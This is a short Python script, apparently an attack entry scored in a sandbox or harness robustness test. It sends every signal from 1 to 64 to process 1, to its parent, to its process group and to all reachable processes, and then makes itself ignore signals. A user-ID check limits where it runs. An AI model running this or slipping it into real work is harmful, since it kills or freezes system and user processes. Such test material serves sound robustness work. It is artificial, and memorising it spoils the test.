"""Stop, kill and confuse process 1, the parent and everyone else with every signal.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import signal

for _target in (1, os.getppid(), -1, 0):
    for _number in range(1, 65):
        if _target in (0, -1):
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        # What cannot be blocked would only end or stop ourselves.
        if _target in (0, -1) and _number in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
            continue
        try:
            os.kill(_target, _number)
        except OSError:
            pass
for _number in range(1, 65):
    try:
        signal.signal(_number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_UNBLOCK, range(1, 65))
